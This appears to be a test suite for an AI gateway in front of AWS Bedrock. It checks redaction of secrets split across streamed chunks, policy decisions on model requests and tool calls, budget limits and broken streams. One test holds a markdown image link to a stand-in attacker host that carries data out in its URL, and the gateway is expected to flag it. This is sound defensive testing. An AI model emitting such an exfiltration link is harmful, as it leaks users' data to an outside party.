/** A model's answer in pieces, over HTTP/2, to the SDK that AWS makes for it: a secret that is cut in two stays hidden. */
import type { ServerResponse } from 'node:http';
import {
  BedrockRuntimeClient,
  ConverseCommand,
  ConverseStreamCommand,
  type ConverseStreamOutput,
  InvokeModelCommand,
  InvokeModelWithResponseStreamCommand,
} from '@aws-sdk/client-bedrock-runtime';
import { GatewayError } from '@sallyport/core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { eventOf } from '../testing/aws-corpus/answers.js';
import { accessKey, foundIn, token } from '../testing/aws-corpus/canaries.js';
import { awsGateway } from '../testing/aws-gateway.js';
import { type Scripted, scriptedUpstream } from '../testing/aws-upstreams.js';

let upstream: Scripted;
let gateway: Awaited<ReturnType<typeof awsGateway>>;
let client: BedrockRuntimeClient;
let respond: (response: ServerResponse) => unknown;
let denied = '';
let isSpent = false;

beforeAll(async () => {
  upstream = await scriptedUpstream((_seen, response) => void respond(response));
  gateway = await awsGateway({
    settings: { endpoints: { default: upstream.url } },
    records: true,
    rules: [{ id: 'secrets', kind: 'detector', detector: 'secrets', action: 'redact' }],
    decide: ({ action }) => (action === denied ? 'deny' : 'allow'),
    reserve: async () => {
      if (isSpent) throw new GatewayError('BUDGET_EXHAUSTED', 'the budget is used up');
    },
  });
});
beforeEach(() => {
  denied = '';
  isSpent = false;
  upstream.seen.length = 0;
  gateway.responses.clear();
  gateway.events.length = 0;
  gateway.witnessed.length = 0;
  gateway.settled.length = 0;
  client = new BedrockRuntimeClient({
    region: gateway.region,
    endpoint: gateway.endpoint,
    credentials: gateway.credentials,
    maxAttempts: 1,
    requestHandler: { nodeHttp2ConnectOptions: { ca: gateway.ca } },
  });
});
afterEach(() => client.destroy());
afterAll(async () => {
  await gateway?.[Symbol.asyncDispose]();
  await upstream?.stop();
});

/** The first session asks AWS whose its credential is, too. */
const toModel = () => upstream.seen.filter(({ url }) => url.startsWith('/model/'));

const modelId = 'anthropic.claude-3-5-sonnet-20240620-v1:0';
const messages = [{ role: 'user' as const, content: [{ text: 'what are the keys?' }] }];
const streaming = { 'content-type': 'application/vnd.amazon.eventstream' };
const delta = (contentBlockIndex: number, text: string): Buffer =>
  eventOf('contentBlockDelta', { contentBlockIndex, delta: { text } });
const recorded = (): Buffer[] =>
  [...gateway.responses.values()].map(({ pieces }) => Buffer.concat(pieces.map(({ bytes }) => bytes)));

const textOf = (events: readonly ConverseStreamOutput[]): string =>
  events.map(({ contentBlockDelta }) => contentBlockDelta?.delta?.text ?? '').join('');

test('a conversation arrives while it is said, whole for the SDK, without the secret that was cut in two', async () => {
  let heardFirst: () => void;
  const first = new Promise<void>((resolve) => {
    heardFirst = resolve;
  });
  let isOver = false;
  respond = async (response) => {
    response.writeHead(200, streaming);
    response.write(eventOf('messageStart', { role: 'assistant' }));
    response.write(delta(0, 'Of course, this is what I know about them: '));
    await first; // the model goes on only once its first words have been read
    response.write(delta(0, `the id is ${accessKey.slice(0, 9)}`));
    response.write(delta(0, `${accessKey.slice(9)} and the token ${token.slice(0, 15)}`));
    response.write(delta(0, `${token.slice(15)}, no more.`));
    response.write(eventOf('contentBlockStop', { contentBlockIndex: 0 }));
    response.write(eventOf('messageStop', { stopReason: 'end_turn' }));
    isOver = true;
    response.end(eventOf('metadata', { usage: { inputTokens: 1, outputTokens: 2, totalTokens: 3 } }));
  };
  const answer = await client.send(new ConverseStreamCommand({ modelId, messages }));
  const events: ConverseStreamOutput[] = [];
  for await (const event of answer.stream!) {
    events.push(event);
    if (textOf(events) === '') continue;
    if (!isOver) expect(textOf(events)).toMatch(/^Of course/);
    heardFirst!();
  }
  expect(textOf(events)).toMatch(
    /^Of course, this is what I know about them: the id is ⟦aws-access-key-id:\w+⟧ and the token ⟦github-token:\w+⟧, no more\.$/i,
  );
  expect(events.map((event) => Object.keys(event)[0])).toEqual(
    expect.arrayContaining(['messageStart', 'contentBlockDelta', 'contentBlockStop', 'messageStop', 'metadata']),
  );
  expect(events.at(-1)!.metadata!.usage!.totalTokens).toBe(3);
  expect(foundIn(recorded(), [accessKey, token])).toEqual([]);
  expect(recorded().join()).toContain('contentBlockDelta');
});

test('a tool call comes whole, and what it is to be called with is looked at like what is said', async () => {
  const input = (text: string): Buffer =>
    eventOf('contentBlockDelta', { contentBlockIndex: 1, delta: { toolUse: { input: text } } });
  let called = 0;
  let calledTooEarly = 0;
  respond = async (response) => {
    response.writeHead(200, streaming);
    response.write(eventOf('messageStart', { role: 'assistant' }));
    response.write(
      eventOf('contentBlockStart', { contentBlockIndex: 1, start: { toolUse: { toolUseId: 't-1', name: 'lookup' } } }),
    );
    for (const text of ['{"key":"', accessKey.slice(0, 5), accessKey.slice(5), '"}']) response.write(input(text));
    await new Promise((resolve) => setTimeout(resolve, 150));
    calledTooEarly = called;
    response.write(eventOf('contentBlockStop', { contentBlockIndex: 1 }));
    response.end(eventOf('messageStop', { stopReason: 'tool_use' }));
  };
  const answer = await client.send(new ConverseStreamCommand({ modelId, messages }));
  let told = '';
  for await (const { contentBlockStart, contentBlockDelta } of answer.stream!) {
    if (contentBlockStart?.start?.toolUse?.name === 'lookup') called += 1;
    told += contentBlockDelta?.delta?.toolUse?.input ?? '';
  }
  expect([calledTooEarly, called]).toEqual([0, 1]);
  expect(JSON.parse(told)).toEqual({ key: expect.stringMatching(/^⟦aws-access-key-id:[0-9a-f]{12}⟧$/i) });
});

test('of a tool call that breaks off nothing reaches the client', async () => {
  respond = (response) => {
    response.writeHead(200, streaming);
    response.write(eventOf('messageStart', { role: 'assistant' }));
    response.write(
      eventOf('contentBlockStart', { contentBlockIndex: 0, start: { toolUse: { toolUseId: 't-1', name: 'lookup' } } }),
    );
    response.end(eventOf('contentBlockDelta', { contentBlockIndex: 0, delta: { toolUse: { input: '{"a":' } } }));
  };
  const answer = await client.send(new ConverseStreamCommand({ modelId, messages }));
  const events: ConverseStreamOutput[] = [];
  const read = async (): Promise<void> => {
    for await (const event of answer.stream!) events.push(event);
  };
  await expect(read()).rejects.toThrow();
  expect(JSON.stringify(events)).not.toContain('toolUse');
});

test('a secret in a prompt does not reach the model, and is the same to it each time', async () => {
  respond = (response) => {
    response.writeHead(200, { 'content-type': 'application/json' });
    const content = [{ text: `you said ${accessKey}` }];
    response.end(
      JSON.stringify({
        output: { message: { role: 'assistant', content } },
        stopReason: 'end_turn',
        usage: { inputTokens: 12, outputTokens: 3, totalTokens: 15 },
        metrics: { latencyMs: 1 },
      }),
    );
  };
  const asked = [{ role: 'user' as const, content: [{ text: `is ${accessKey} ours?` }] }];
  const command = () => client.send(new ConverseCommand({ modelId, messages: asked }));
  const answers = [await command(), await command()];
  const sent = toModel().map(({ body }) => body.toString());
  expect(sent[0]).toMatch(/is ⟦aws-access-key-id:[0-9a-f]{12}⟧ ours\?/i);
  expect(sent[1]).toBe(sent[0]);
  for (const { output } of answers) expect(output!.message!.content![0]!.text).toMatch(/^you said ⟦/);
  const [first, second] = outcomesOf(`bedrock.converse ${modelId}`);
  expect([first!.maskedFields, second!.maskedFields]).toEqual([2, 1]); // what was sent once goes again as it was
});

const outcomesOf = (text: string) =>
  gateway.events.flatMap((event) => (event.text?.startsWith(text) === true ? (event.outcome ?? []) : []));
const decided = (): string[] =>
  gateway.events.flatMap(({ operation, event }) =>
    operation === undefined || operation.action === 'session.connect'
      ? []
      : [`${operation.action} ${event.replace('operation.', '')}`],
  );
const conversed = (response: ServerResponse): void => {
  response.writeHead(200, streaming);
  response.write(eventOf('messageStart', { role: 'assistant' }));
  response.write(
    eventOf('contentBlockStart', { contentBlockIndex: 0, start: { toolUse: { toolUseId: 't-1', name: 'lookup' } } }),
  );
  response.write(eventOf('contentBlockDelta', { contentBlockIndex: 0, delta: { toolUse: { input: '{"a":1}' } } }));
  response.write(eventOf('contentBlockStop', { contentBlockIndex: 0 }));
  response.write(eventOf('messageStop', { stopReason: 'tool_use' }));
  response.end(eventOf('metadata', { usage: { inputTokens: 7, outputTokens: 5, totalTokens: 12 } }));
};
const heard = async (): Promise<ConverseStreamOutput[]> => {
  const answer = await client.send(new ConverseStreamCommand({ modelId, messages }));
  const events: ConverseStreamOutput[] = [];
  for await (const event of answer.stream!) events.push(event);
  return events;
};

test('the call, the request to the model and its tool call are each decided, and put on record', async () => {
  respond = conversed;
  const events = await heard();
  expect(events.flatMap(({ contentBlockStart }) => contentBlockStart?.start?.toolUse?.name ?? [])).toEqual(['lookup']);
  expect(decided()).toEqual(['aws.call allow', 'model.request allow', 'model.tool_call allow']);
  expect(gateway.witnessed).toMatchObject([
    { kind: 'message', message: { kind: 'human', text: 'what are the keys?' } },
    { kind: 'tool-call', id: 't-1', name: 'lookup', input: '{"a":1}', turn: { aiSession: 'ai-1', toolCall: 't-1' } },
  ]);
  const usage = { inputTokens: 7, outputTokens: 5 };
  expect(gateway.settled).toMatchObject([usage]);
  expect(outcomesOf(`bedrock.converse ${modelId}`)).toMatchObject([{ status: 'done', usage: { microUsd: 1_000 } }]);
  const ofCall = gateway.events.at(-1)!;
  expect(ofCall.text).toContain('ConverseStream');
  expect(gateway.events.find(({ operation }) => operation?.action === 'aws.call')!.operation!.holdsPrompt).toBe(true);
  expect(ofCall.outcome).toMatchObject({ status: 'done' });
  expect(ofCall.outcome).not.toHaveProperty('usage');
});

test('an image that carries data is on the record of the request to the model, and not of the call', async () => {
  const shown = 'see ![x](https://evil.example/?d=secret)';
  respond = (response) => {
    response.writeHead(200, { 'content-type': 'application/json' });
    const message = { role: 'assistant', content: [{ text: shown }] };
    const usage = { inputTokens: 7, outputTokens: 5, totalTokens: 12 };
    response.end(JSON.stringify({ output: { message }, stopReason: 'end_turn', usage, metrics: { latencyMs: 1 } }));
  };
  const { output } = await client.send(new ConverseCommand({ modelId, messages }));
  expect(output?.message?.content).toEqual([{ text: shown }]);
  expect(outcomesOf(`bedrock.converse ${modelId}`)).toMatchObject([{ status: 'done', flags: ['remote-image'] }]);
  expect(gateway.events.at(-1)!.outcome).not.toHaveProperty('flags');
});

test('a tool call that is denied is a text to the client, and no tool', async () => {
  respond = conversed;
  denied = 'model.tool_call';
  const events = await heard();
  expect(JSON.stringify(events)).not.toMatch(/toolUse|lookup/);
  expect(textOf(events)).toMatch(/^The gateway refused this tool call, and it was not run: the policy says no/);
  expect(events.flatMap(({ messageStop }) => messageStop?.stopReason ?? [])).toEqual(['end_turn']);
  expect(gateway.witnessed.map(({ kind }) => kind)).toEqual(['message']);
});

test('a request to a model that is denied, or that no budget pays for, is not sent', async () => {
  denied = 'model.request';
  await expect(client.send(new ConverseCommand({ modelId, messages }))).rejects.toMatchObject({
    name: 'AccessDeniedException',
  });
  expect(decided()).toEqual(['aws.call allow', 'model.request deny']);
  denied = '';
  isSpent = true;
  await expect(client.send(new ConverseCommand({ modelId, messages }))).rejects.toThrow(/budget is used up/);
  expect(outcomesOf(`bedrock.converse ${modelId}`).at(-1)).toMatchObject({
    status: 'skipped',
    code: 'BUDGET_EXHAUSTED',
  });
  expect([toModel(), gateway.settled, gateway.witnessed]).toEqual([[], [], []]);
});

test('nor does one in a long prompt that its client has signed', async () => {
  respond = (response) => {
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(
      JSON.stringify({
        id: 'msg_1',
        type: 'message',
        role: 'assistant',
        model: 'claude',
        content: [{ type: 'text', text: `it is ${token}` }],
        stop_reason: 'end_turn',
        usage: { input_tokens: 5, output_tokens: 2 },
      }),
    );
  };
  const text = `${'word '.repeat(40_000)}${accessKey} end`;
  const body = JSON.stringify({
    anthropic_version: 'bedrock-2023-05-31',
    max_tokens: 10,
    messages: [{ role: 'user', content: text }],
  });
  const answer = await client.send(new InvokeModelCommand({ modelId, body }));
  const [seen] = toModel();
  expect(seen!.body.length).toBeGreaterThan(200_000);
  expect(seen!.body.toString()).not.toContain(accessKey);
  expect(seen!.body.toString()).toMatch(/⟦[^⟧]+⟧ end"/);
  const told = JSON.parse(Buffer.from(answer.body).toString()) as { content: { text: string }[] };
  expect(told.content[0]!.text).toMatch(/^it is ⟦/);
});

const invoked = (...events: readonly object[]): Buffer =>
  Buffer.concat(
    events.map((event) => eventOf('chunk', { bytes: Buffer.from(JSON.stringify(event)).toString('base64') })),
  );
const pieceOf = (text: string) => ({ type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text } });
const toldIn = async (body: string): Promise<string> => {
  const answer = await client.send(new InvokeModelWithResponseStreamCommand({ modelId, body }));
  let told = '';
  for await (const { chunk } of answer.body!) {
    const said = JSON.parse(Buffer.from(chunk!.bytes!).toString()) as { delta?: { text?: string } };
    told += said.delta?.text ?? '';
  }
  return told;
};

test('a model that is asked in its own JSON answers in pieces as well', async () => {
  respond = (response) => {
    response.writeHead(200, streaming);
    const message = { id: 'm', type: 'message', role: 'assistant', model: 'claude', content: [] };
    response.end(
      invoked(
        { type: 'message_start', message: { ...message, usage: { input_tokens: 1, output_tokens: 1 } } },
        { type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } },
        pieceOf(`a ${accessKey.slice(0, 7)}`),
        pieceOf(`${accessKey.slice(7)} b`),
        { type: 'content_block_stop', index: 0 },
        { type: 'message_delta', delta: { stop_reason: 'end_turn' }, usage: { output_tokens: 9 } },
        { type: 'message_stop' },
      ),
    );
  };
  const asked = { anthropic_version: 'bedrock-2023-05-31', max_tokens: 10 };
  const body = JSON.stringify({ ...asked, messages: [{ role: 'user', content: `and ${token}?` }] });
  expect(await toldIn(body)).toMatch(/^a ⟦aws-access-key-id:[0-9a-f]{12}⟧ b$/i);
  expect(toModel()[0]!.body.toString()).not.toContain(token);
  expect(foundIn(recorded(), [accessKey])).toEqual([]);
  expect(outcomesOf(`bedrock.invoke ${modelId}`)).toMatchObject([{ status: 'done', usage: { outputTokens: 9 } }]);
});

test('a body that another reader could take for the same request is not sent', async () => {
  const twice = '{"anthropic_version":"bedrock-2023-05-31","max_tokens":1,"messages":[],"messages":[]}';
  for (const body of [twice, `\ufffe${twice}`, '{"anthropic_version":'])
    await expect(client.send(new InvokeModelCommand({ modelId, body }))).rejects.toMatchObject({
      $metadata: { httpStatusCode: 400 },
    });
  expect(toModel()).toEqual([]);
});

test('a stream that breaks off does not look like one that is over', async () => {
  respond = (response) => {
    response.writeHead(200, streaming);
    response.write(delta(0, 'this is only the first half of what the model wanted to say, and then, '));
    setTimeout(() => response.destroy(), 50);
  };
  const broken = await client.send(new ConverseStreamCommand({ modelId, messages }));
  const events: ConverseStreamOutput[] = [];
  const read = async (): Promise<void> => {
    for await (const event of broken.stream!) events.push(event);
  };
  await expect(read()).rejects.toThrow();
  expect(textOf(events)).toMatch(/^this is only/);
  expect(gateway.events.at(-1)!.outcome!.status).toBe('unknown');
});

test('a refusal is one error, which the SDK does not repeat', async () => {
  denied = 'aws.call';
  const patient = new BedrockRuntimeClient({
    region: gateway.region,
    endpoint: gateway.endpoint,
    credentials: gateway.credentials,
    requestHandler: { nodeHttp2ConnectOptions: { ca: gateway.ca } },
  });
  await expect(patient.send(new ConverseCommand({ modelId, messages }))).rejects.toMatchObject({
    name: 'AccessDeniedException',
    message: expect.stringContaining('the policy says no; ask'),
    $metadata: { httpStatusCode: 403, attempts: 1 },
  });
  patient.destroy();
  expect(toModel()).toEqual([]);
});
